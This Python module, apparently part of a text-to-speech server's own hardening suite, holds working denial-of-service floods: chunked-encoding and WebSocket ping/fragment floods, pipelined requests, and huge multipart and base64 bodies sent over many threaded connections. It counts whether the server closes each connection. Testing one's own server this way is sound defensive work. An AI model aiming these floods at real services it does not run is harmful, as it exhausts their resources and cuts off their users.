"""Input in the smallest pieces that its format allows: each costs a parser as much as a large one."""

from __future__ import annotations

import json
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from socket import socket

from scripts.attacks.senders import Outcomes
from scripts.attacks.target import Target

SEND_SECONDS = 3.0
"""How long the server may take none of a slice."""
SLICE_BYTES = 2**16
FLOOD_BYTES = 2**20
"""Of what repeats: sent again and again."""
CHUNKS = b"1\r\nx\r\n" * (FLOOD_BYTES // 6)
PINGS = b"\x89\x80\0\0\0\0" * (FLOOD_BYTES // 6)
FRAGMENTS = b"\x00\x81\0\0\0\0x" * (FLOOD_BYTES // 7)
KEY = b"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\nSec-WebSocket-Version: 13\r\n"


def _post(target: Target, headers: bytes) -> bytes:
    return b"POST /tts HTTP/1.1\r\n" + target.head + headers + b"\r\n"


def _with_body(target: Target, media: bytes, body: bytes) -> bytes:
    return _post(target, b"Content-Type: %s\r\nContent-Length: %d\r\n" % (media, len(body))) + body


def _spaced_base64(target: Target) -> bytes:
    body = json.dumps({"text": "Hi.", "reference_audio": "A " * 9_000_000}).encode()
    return _with_body(target, b"application/json", body)


def _parts(target: Target) -> bytes:
    parts = b"".join(b'--x\r\nContent-Disposition: form-data; name="%d"\r\n\r\n1\r\n' % i for i in range(300_000))
    return _with_body(target, b"multipart/form-data; boundary=x", parts + b"--x--\r\n")


def _half_boundaries(target: Target) -> bytes:
    head = b'--x\r\nContent-Disposition: form-data; name="reference_audio"; filename="a"\r\n\r\n'
    return _with_body(target, b"multipart/form-data; boundary=x", head + b"\r\n--" * 5_000_000 + b"\r\n--x--\r\n")


def _upgrade(target: Target) -> bytes:
    upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
    return b"GET /v1/audio/speech/stream HTTP/1.1\r\n" + target.head + upgrade + KEY + b"\r\n"


FLOODS: dict[str, Callable[[Target], tuple[bytes, bytes]]] = {
    "chunks": lambda target: (
        _post(target, b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"),
        CHUNKS,
    ),
    "pings": lambda target: (_upgrade(target), PINGS),
    "fragments": lambda target: (_upgrade(target), b"\x01\x81\0\0\0\0x" + FRAGMENTS),
    "pipelined": lambda target: (b"", (b"GET /health HTTP/1.1\r\n" + target.head + b"\r\n") * 5000),
    "spaced base64": lambda target: (b"", _spaced_base64(target)),
    "form parts": lambda target: (b"", _parts(target)),
    "half boundaries": lambda target: (b"", _half_boundaries(target)),
}
"""What begins a connection, and what is then sent as long as it is taken."""


def attack(target: Target, count: int, seconds: float) -> Outcomes:
    """`count` connections at a time, for so long with each flood. Counts how they end: closed by the server, or not."""
    outcomes: Outcomes = Counter()
    for make in FLOODS.values():
        begin, flood = make(target)
        end = time.monotonic() + seconds / len(FLOODS)

        def send(begin: bytes = begin, flood: bytes = flood, end: float = end) -> None:
            while time.monotonic() < end:
                outcomes[_send(target, begin, flood, end)] += 1

        threads = [threading.Thread(target=send) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return outcomes


def _send(target: Target, begin: bytes, flood: bytes, end: float) -> str:
    with suppress(OSError), target.connect(timeout=SEND_SECONDS) as connection:
        reader = threading.Thread(target=_drain, args=(connection,))
        reader.start()
        try:
            connection.sendall(begin)
            while time.monotonic() < end:
                for start in range(0, len(flood), SLICE_BYTES):
                    connection.sendall(flood[start : start + SLICE_BYTES])
                    if time.monotonic() >= end:
                        break
            return "open"
        except TimeoutError:
            return "open"
        finally:
            with suppress(OSError):
                connection.shutdown(2)
            reader.join()
    return "closed"


def _drain(connection: socket) -> None:
    """Reads until the connection is closed or shut down."""
    with suppress(OSError):
        while True:
            with suppress(TimeoutError):
                if not connection.recv(65536):
                    return
